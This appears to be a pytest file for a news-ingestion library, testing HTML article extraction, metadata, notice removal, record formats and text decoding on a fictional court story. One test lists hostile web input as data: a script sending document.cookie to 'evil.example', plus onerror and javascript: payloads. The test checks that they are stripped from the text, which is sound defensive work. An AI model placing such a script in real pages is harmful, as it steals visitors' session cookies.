"""HTML extraction: link-dense blocks, restored leads, reader notices, metadata read before scripts go."""
from __future__ import annotations

import json

from newssift.ingest.html import extract_html
from newssift.ingest.notices import is_notice
from newssift.ingest.pagemeta import outlet_from_host
from newssift.ingest.text import clean_text

COURT = [
    "The appeals court in Halvern upheld the fraud conviction of a former harbour treasurer on Thursday, rejecting every ground of her appeal.",
    "Judge Imre Solberg wrote that the trial court had weighed the accounting evidence with care and that the sentence of four years was proportionate.",
    "Lawyers for the former treasurer said they would study the ruling before deciding whether to take the case to the supreme court next year.",
    "The harbour authority, which lost an estimated 2.3 million crowns over six years, welcomed the decision in a short statement on its website.",
]


def _page(body: str, head: str = "", title: str = "Appeal rejected in harbour fraud case") -> str:
    return (f"<html lang='en'><head><title>{title} | Halvern Courier</title>{head}</head><body>"
            f"<nav><a href='/'>Home</a> <a href='/courts'>Courts</a></nav>{body}"
            "<footer><p>Contact the newsroom</p></footer></body></html>")


def _article(extra: str = "", paras=COURT) -> str:
    ps = "".join(f"<p>{p}</p>" for p in paras)
    return f"<article><h1>Appeal rejected in harbour fraud case</h1>{ps}{extra}</article>"


def test_link_dense_paragraph_is_dropped_but_prose_with_a_link_stays():
    extra = ("<p>Read also: <a href='/x'>Harbour authority appoints new treasurer after audit</a></p>"
             f"<p>{COURT[0][:60]} <a href='/y'>earlier ruling</a> and the lower court's reasoning was sound in every respect, the judges said.</p>")
    art = extract_html(_page(_article(extra)), "court.html")
    assert "Harbour authority appoints new treasurer" not in art.text
    assert "earlier ruling and the lower court's reasoning" in art.text
    assert COURT[3] in art.text


def test_lead_in_a_teaser_block_is_restored_from_the_page_description():
    lead = "A former harbour treasurer loses her appeal against a four-year sentence for fraud."
    head = f"<meta property='og:description' content='{lead}'>"
    body = f"<div class='teaser-box'><span class='kicker'>{lead}</span></div>" + _article()
    art = extract_html(_page(body, head), "court.html")
    assert art.text.startswith(lead)
    assert COURT[1] in art.text


def test_description_only_in_meta_is_not_added_to_the_text():
    head = "<meta name='description' content='Everything about courts and justice in the harbour city of Halvern, daily.'>"
    art = extract_html(_page(_article(), head), "court.html")
    assert "Everything about courts" not in art.text


def test_json_ld_gives_date_outlet_author_before_scripts_are_removed():
    ld = {"@context": "https://schema.org", "@type": "NewsArticle", "headline": "Appeal rejected in harbour fraud case",
          "datePublished": "2025-03-06T14:20:00+01:00", "author": {"@type": "Person", "name": "Vera Lindqvist"},
          "publisher": {"@type": "Organization", "name": "Halvern Courier"}}
    head = f"<script type='application/ld+json'>{json.dumps(ld)}</script><link rel='canonical' href='https://courier.example/courts/appeal'>"
    art = extract_html(_page(_article(), head), "court.html")
    assert (art.published, art.sitename, art.author) == ("2025-03-06", "Halvern Courier", "Vera Lindqvist")
    assert art.url == "https://courier.example/courts/appeal"
    assert art.title == "Appeal rejected in harbour fraud case"
    assert "datePublished" not in art.text and "schema.org" not in art.text


def test_og_site_name_and_title_without_site_suffix():
    head = "<meta property='og:site_name' content='The Halvern Courier'>"
    art = extract_html(_page(_article(), head, title="Harbour fraud: appeal rejected"), "court.html")
    assert art.sitename == "The Halvern Courier"
    # One <h1> on the page: that is the headline, not the <title> with the outlet's name.
    assert art.title == "Appeal rejected in harbour fraud case"


def test_outlet_falls_back_to_a_readable_host_name():
    art = extract_html(_page(_article()), "court.html", url="https://www.halvern-courier.example/courts/1")
    assert art.sitename == "halvern-courier.example"
    assert outlet_from_host("https://m.news.example.org/a") == "news.example.org"
    assert outlet_from_host("https://www.example/a") == "www.example"  # a bare host keeps its name
    assert outlet_from_host(None) is None


def test_hostile_scripts_and_json_ld_never_reach_the_text():
    bad = ("<script>fetch('https://evil.example/'+document.cookie)</script>"
           "<script type='application/ld+json'>{\"@type\":\"NewsArticle\",\"headline\":\"<img onerror=alert(1)>\"}</script>"
           "<style>p{background:url(javascript:alert(2))}</style><template><p>alert(3)</p></template>"
           "<noscript><p>alert(4) from noscript</p></noscript><!-- alert(5) -->")
    art = extract_html(_page(_article(bad), bad), "hostile.html")
    for s in ("alert", "fetch(", "document.cookie", "javascript", "onerror", "evil.example"):
        assert s not in art.text, s
    assert COURT[2] in art.text


def test_unclosed_noscript_that_swallows_the_page_keeps_the_article():
    # A tracking pixel's <noscript> left unclosed: the parser puts the whole article inside it.
    html = ("<html><head><title>Appeal rejected</title></head><body><noscript><img src='/pixel.gif'>"
            + _article() + "</body></html>")
    art = extract_html(html, "swallowed.html")
    assert COURT[0] in art.text and COURT[3] in art.text


def test_reader_notices_are_notices_and_reporting_is_not():
    assert is_notice("To view the full story, please subscribe to the Harbour Weekly. Plans start at 5 crowns a week.")
    assert is_notice("Follow the Courier on Twitter and Instagram for the latest updates from the courts.")
    assert is_notice("This post contains affiliate links; we may receive a commission when you buy through them.")
    assert is_notice("Share this article")
    assert not is_notice("The streaming service said its subscribers rose by two million in the quarter, beating forecasts.")
    assert not is_notice("Engineers should follow the installation instructions for the new signalling system, the report said.")


def test_notice_inside_an_extracted_article_is_cut():
    raw = "\n".join([COURT[0], "Subscribe now to our digital edition for the full story and the court's reasoning.", COURT[1]])
    out = clean_text(raw, extracted=True)
    assert "Subscribe now" not in out.text and COURT[1] in out.text
    assert any(r.reason == "notice" for r in out.removed)


def test_extracted_article_keeps_edge_lists_and_headings():
    raw = "\n".join(["What the court found", COURT[0], COURT[1], "- The sentence stands", "- Costs go to the appellant"])
    out = clean_text(raw, extracted=True)
    assert out.text.startswith("What the court found") and out.text.endswith("- Costs go to the appellant")


def test_meta_csv_inside_an_input_folder_is_used_without_the_option(tmp_path):
    from newssift.ingest import ingest

    story = "\n\n".join(COURT)
    (tmp_path / "courier-appeal.txt").write_text(story, encoding="utf-8")
    (tmp_path / "meta.csv").write_text("id,outlet,published\ncourier-appeal,Halvern Courier,2025-03-06\n", encoding="utf-8")
    res = ingest([str(tmp_path)])
    assert not res.problems
    (doc,) = res.documents
    assert (doc.id, doc.outlet, doc.published) == ("courier-appeal", "Halvern Courier", "2025-03-06")


def test_text_file_alone_keeps_its_file_name_as_id_and_no_outlet(tmp_path):
    from newssift.ingest import ingest

    (tmp_path / "appeal-ruling.txt").write_text("\n\n".join(COURT), encoding="utf-8")
    (doc,) = ingest([str(tmp_path / "appeal-ruling.txt")]).documents
    assert doc.id == "appeal-ruling" and doc.outlet is None


# ------------------------------------------------------------------ records people already have
def _ingest_one(path):
    from newssift.ingest import ingest

    res = ingest([str(path)])
    assert not res.problems, res.problems
    return res.documents


def test_news_please_record(tmp_path):
    rec = {"authors": ["Vera Lindqvist", "Tom Ash"], "date_publish": "2025-03-06 14:20:00", "maintext": "\n".join(COURT),
           "source_domain": "www.halvern-courier.example", "title": "Appeal rejected", "url": "https://www.halvern-courier.example/a/1"}
    (tmp_path / "np.json").write_text(json.dumps(rec), encoding="utf-8")
    (doc,) = _ingest_one(tmp_path / "np.json")
    assert (doc.outlet, doc.author, doc.title) == ("halvern-courier.example", "Vera Lindqvist, Tom Ash", "Appeal rejected")
    assert doc.published.startswith("2025-03-06") and COURT[2] in doc.text


def test_trafilatura_json_source_is_the_url_not_the_outlet(tmp_path):
    rec = {"title": "Appeal rejected", "sitename": "Halvern Courier", "hostname": "halvern-courier.example",
           "source": "https://halvern-courier.example/a/1", "date": "2025-03-06", "text": "\n".join(COURT), "raw_text": " ".join(COURT)}
    (tmp_path / "t.json").write_text(json.dumps(rec), encoding="utf-8")
    (doc,) = _ingest_one(tmp_path / "t.json")
    assert (doc.outlet, doc.url) == ("Halvern Courier", "https://halvern-courier.example/a/1")


def test_jsonl_with_content_and_maintext_keys(tmp_path):
    lines = [{"id": "a", "content": "\n".join(COURT[:3]), "outlet": "Halvern Courier"},
             {"id": "b", "maintext": "\n".join(COURT[1:]), "outlet": "Harbour Weekly"}]
    (tmp_path / "batch.jsonl").write_text("\n".join(json.dumps(x) for x in lines), encoding="utf-8")
    docs = _ingest_one(tmp_path / "batch.jsonl")
    assert [(d.id, d.outlet) for d in docs] == [("a", "Halvern Courier"), ("b", "Harbour Weekly")]


def test_csv_of_articles_and_a_data_csv_beside_it(tmp_path):
    import csv

    with (tmp_path / "articles.csv").open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["url", "title", "outlet", "date", "text"])
        w.writerow(["https://courier.example/a", "Appeal rejected", "Halvern Courier", "2025-03-06", "\n".join(COURT)])
        w.writerow(["https://weekly.example/b", "Treasurer loses appeal", "Harbour Weekly", "2025-03-07", "\n".join(COURT[1:])])
    (tmp_path / "budget.csv").write_text("year,amount\n2024,12\n", encoding="utf-8")  # data, not articles
    docs = _ingest_one(tmp_path)
    assert [(d.outlet, d.title, d.published) for d in docs] == [
        ("Halvern Courier", "Appeal rejected", "2025-03-06"), ("Harbour Weekly", "Treasurer loses appeal", "2025-03-07")]


def test_feed_item_outlet_prefers_its_own_page_then_the_feed_title():
    from newssift.ingest.page import Page
    from newssift.ingest.records import _item_outlet

    named = Page(source="x", id="a", raw="t", source_format="feed", url="https://courier.example/a", outlet="Halvern Courier")
    bare = Page(source="x", id="b", raw="t", source_format="feed", url="https://courier.example/b", outlet="courier.example")
    assert _item_outlet(named, "Top stories - News Digest") == "Halvern Courier"
    assert _item_outlet(bare, "Halvern Courier") == "Halvern Courier"
    assert _item_outlet(bare, None) == "courier.example"


# ------------------------------------------------------------------ other languages and encodings
def test_chinese_page_is_cleaned_by_shape_and_marked_zh(tmp_path):
    raw = ("首页 | 新闻 | 体育 | 财经\n港口火灾后码头关闭两周\n"
           "港口管理局周四表示，哈尔文港的集装箱码头将在火灾后关闭至少两周，调查人员已开始检查北码头的残骸。\n"
           "消防部门称，这场火灾造成十一人死亡，另有三十至四十人受伤。仍有四名工人下落不明。\n"
           "运营商表示，将与调查人员全面合作，并为受影响的家庭提供支持。\n版权所有 © 2025 哈尔文日报\n")
    out = clean_text(raw)
    assert out.text.startswith("港口管理局") and out.text.endswith("提供支持。")
    assert out.title == "港口火灾后码头关闭两周" and "首页" not in out.text and "版权所有" not in out.text
    (tmp_path / "gangkou.txt").write_text(raw, encoding="utf-8")
    (doc,) = _ingest_one(tmp_path / "gangkou.txt")
    assert doc.language == "zh" and "十一人死亡" in doc.text


def test_japanese_sentences_are_prose():
    from newssift.ingest.lines import shape_of

    sh = shape_of("港湾局は木曜日、火災の後、コンテナ埠頭を少なくとも二週間閉鎖すると発表した。")
    assert sh.kind == "prose" and sh.terminal


def test_utf16_without_byte_order_mark(tmp_path):
    from newssift.ingest.decode import decode_bytes

    text = "\n\n".join(COURT)
    for enc in ("utf-16-le", "utf-16-be"):
        assert decode_bytes(text.encode(enc), "x") == text
    (tmp_path / "court.txt").write_bytes(text.encode("utf-16-le"))
    (doc,) = _ingest_one(tmp_path / "court.txt")
    assert COURT[0] in doc.text


def test_utf8_with_windows_1252_bytes_mixed_in():
    from newssift.ingest.decode import decode_bytes

    data = "Café owners said “trade fell”.".encode() + " The naïve plan – costs rose.".encode("cp1252")
    assert decode_bytes(data, "x") == "Café owners said “trade fell”. The naïve plan – costs rose."
    # Plain Windows-1252 text is still read as such.
    assert decode_bytes("Straße – große Pläne.".encode("cp1252"), "x") == "Straße – große Pläne."


def test_long_one_line_cookie_notice_inside_a_pasted_article_is_cut():
    notice = ("We use cookies to give you the best experience on our website, to personalise content and ads and to "
              "analyse our traffic; by continuing to browse you accept cookies as described in our cookie policy.")
    out = clean_text("\n\n".join([COURT[0], COURT[1], notice, COURT[2], COURT[3]]))
    assert "cookies" not in out.text and COURT[2] in out.text and COURT[3] in out.text
    assert [r.reason for r in out.removed] == ["notice"]


def test_author_profile_link_is_not_an_author():
    head = ("<meta property='article:author' content='https://social.example/vera.lindqvist'>"
            "<meta name='dc.creator' content='Vera Lindqvist'>")
    art = extract_html(_page(_article(), head), "court.html")
    assert art.author == "Vera Lindqvist"
